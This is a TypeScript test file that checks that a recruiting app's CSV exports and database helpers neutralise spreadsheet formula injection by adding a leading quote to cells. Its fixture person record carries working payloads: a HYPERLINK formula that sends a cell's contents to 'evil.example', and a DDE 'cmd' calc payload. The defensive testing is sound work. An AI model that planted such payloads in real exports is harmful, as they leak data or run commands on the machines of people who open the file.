import { createCredential } from '../../src/credentials/credentials.service';
import { csvCell, csvField } from '../../src/domain/csv';
import { PDL_GOOD_KEY, person, startPdlFake, type PdlFake } from '../fakes/pdl-fake';
import { parseCsvLine } from '../support/csv';
import { workspaceWithKey } from '../support/fixtures';
import { createProject, launch, waitForSearch } from '../support/searches';
import { startTestStack, type TestStack } from '../support/stack';

/**
 * CSV formula injection (OWASP): profile text comes from third parties, so a cell of records.csv or
 * shortlist.csv that starts with = + - @, a tab or a CR is written with a leading '. The records
 * CSV's cells are stored by Postgres (csv_cell, the search_people_csv_cells trigger), the
 * shortlist's are selected through csv_cell by its COPY query: both CSVs and the SQL and
 * TypeScript rules are held to the same answers here.
 */

/** A People Data Labs record whose text would run as formulas in a spreadsheet. */
const hostile = {
  ...person({
    id: 'pdl-evil-0001',
    name: ['=hyperlink("https://evil.example/?leak="&a1,"ada")', '+sum(1,2)'],
    title: ['-2+3 backend engineer', 'engineering', 'software', []],
    company: ['@evil corp', 'computer software'],
    location: ['@home, california, united states', null],
    skills: ["=cmd|' /c calc'!a0", 'typescript'],
    years: 7,
  }),
  headline: '=1+1',
};

let pdl: PdlFake;
let stack: TestStack;
beforeAll(async () => {
  pdl = await startPdlFake({ people: [hostile] });
  stack = await startTestStack({ env: { PEOPLEDATALABS_BASE_URL: pdl.url, PEOPLEDATALABS_API_KEY: '' } });
});
afterAll(async () => {
  await stack?.stop();
  await pdl?.close();
});

const FORMULA_START = /^[=+@\t\r-]/;

it('records.csv and shortlist.csv write hostile profile text with a leading quote, and nothing starts like a formula', async () => {
  const f = await workspaceWithKey(stack.db, { credits: 5 });
  await createCredential(stack.db, stack.config, f.workspace.id, { provider: 'peopledatalabs', apiKey: PDL_GOOD_KEY, label: 'default' });
  const projectId = await createProject(stack, f.headers);
  const launched = await launch(stack, f.headers, projectId, { criteria: { titles: ['Backend Engineer'], shortlist_threshold: 0, target: 5 } });
  expect(launched.status).toBe(201);
  const search = await waitForSearch(stack, f.headers, launched.body.data.id);
  expect(search).toMatchObject({ status: 'complete', delivered: 1 });

  const records = await stack.request('GET', `/v1/searches/${search.id}/records.csv`, { headers: f.headers });
  expect(records.status).toBe(200);
  const [header, row] = records.text.split('\r\n').slice(0, 2).map(parseCsvLine);
  const cell = (name: string) => row[header.indexOf(name)];
  // Each hostile text, as the API shows it in JSON, is in its cell behind a single quote.
  const json = (await stack.request('GET', `/v1/searches/${search.id}/records`, { headers: f.headers })).body.data[0];
  expect(json.first_name).toMatch(FORMULA_START);
  for (const name of ['first_name', 'last_name', 'title', 'company', 'location', 'summary'])
    expect({ name, cell: cell(name) }).toEqual({ name, cell: `'${json[name]}` });
  expect(cell('about')).toBe(`'${json.profile.about}`);
  expect(cell('skills')).toBe(`'${json.profile.skills.join('; ')}`);
  expect(cell('experience_history')).toMatch(/^'-2\+3 Backend Engineer, @Evil Corp \(/);
  for (const [i, value] of row.entries())
    expect({ column: header[i], starts_like_a_formula: FORMULA_START.test(value) }).toEqual({ column: header[i], starts_like_a_formula: false });

  const added = await stack.request('POST', `/v1/projects/${projectId}/shortlist/members`, {
    headers: f.headers,
    body: { candidate_ids: [json.candidate_id] },
  });
  expect(added.status).toBe(200);
  const shortlist = await stack.request('GET', `/v1/projects/${projectId}/shortlist.csv`, { headers: f.headers });
  const [memberHeader, member] = shortlist.text.split('\r\n').slice(0, 2).map(parseCsvLine);
  const listed = (await stack.request('GET', `/v1/projects/${projectId}/shortlist`, { headers: f.headers })).body.data[0];
  for (const name of ['name', 'title', 'company', 'location']) {
    expect(listed[name]).toMatch(FORMULA_START);
    expect({ name, cell: member[memberHeader.indexOf(name)] }).toEqual({ name, cell: `'${listed[name]}` });
  }
  for (const value of member) expect(FORMULA_START.test(value)).toBe(false);
});

it('Postgres (csv_cell, csv_field) and src/domain/csv.ts write every cell alike', async () => {
  const samples = [
    ...['=', '+', '-', '@', '\t', '\r'].flatMap((c) => [`${c}1+1`, c, `${c}a,"b"\r\n`]),
    'plain',
    'a,b',
    'say "hi"',
    'two\nlines',
    'a=b',
    ' =leading space',
    '\n=after a newline',
    "'already quoted",
    '−1 (a Unicode minus)',
    'Zoë, Łódź — 東京',
    '',
  ];
  const { rows } = await stack.db.raw(
    'select s.value, csv_cell(s.value) as cell, csv_field(s.value) as field from unnest(?::text[]) with ordinality as s(value, o) order by o',
    [samples],
  );
  expect(rows.map((r: { value: string; cell: string; field: string }) => ({ value: r.value, cell: r.cell, field: r.field }))).toEqual(
    samples.map((value) => ({ value, cell: csvCell(value), field: csvField(value) })),
  );
  const [nulls] = (await stack.db.raw('select csv_cell(null) as cell, csv_field(null) as field')).rows;
  expect(nulls).toEqual({ cell: null, field: csvField(null) });
  // The leading quote where OWASP asks for it, and nowhere else.
  expect(samples.filter((s) => csvCell(s).startsWith("'") && !s.startsWith("'"))).toEqual(samples.filter((s) => FORMULA_START.test(s)));
});
